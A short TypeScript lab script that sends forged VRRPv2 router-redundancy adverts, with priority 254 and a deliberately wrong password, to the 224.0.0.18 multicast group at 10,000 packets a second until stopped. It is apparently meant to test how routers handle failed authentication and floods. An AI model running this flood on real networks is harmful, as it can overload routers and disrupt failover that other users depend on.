/**
 * wrong-password.ts VRID VIP: sends adverts of VRRPv2 (RFC 3768 section 5.1) that are right in everything but their
 * password, 10,000 a second, until it is ended. Multicast must have a route.
 */
import { internetAddress, openSocket, SOCK_RAW, sendTo, setOption } from '../lab/support/libc.ts';

const AF_INET = 2;
const IPPROTO_IP = 0;
const IP_MULTICAST_TTL = 33;
const VRRP = 112;
const AUTH_TEXT = 1;
const PER_MILLISECOND = 10;

function advert(vrid: number, vip: string): Buffer {
  const bytes = Buffer.alloc(8 + 4 + 8);
  bytes.set([0x21, vrid, 254, 1, AUTH_TEXT, 1]);
  bytes.set(vip.split('.').map(Number), 8);
  bytes.write('forged', 12, 'latin1');
  bytes.writeUInt16BE(checksum(bytes), 6);
  return bytes;
}

/** RFC 1071, over an even number of bytes. */
function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += bytes.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

function main(vrid: number, vip: string): never {
  const fd = openSocket(AF_INET, SOCK_RAW, VRRP);
  const ttl = Buffer.alloc(4);
  ttl.writeInt32LE(255);
  setOption(fd, IPPROTO_IP, IP_MULTICAST_TTL, ttl);
  const group = internetAddress('224.0.0.18');
  const bytes = advert(vrid, vip);
  const sleep = new Int32Array(new SharedArrayBuffer(4));
  for (;;) {
    for (let i = 0; i < PER_MILLISECOND; i++) sendTo(fd, bytes, group);
    Atomics.wait(sleep, 0, 0, 1);
  }
}

const [vrid = '0', vip = ''] = process.argv.slice(2);
main(Number(vrid), vip);
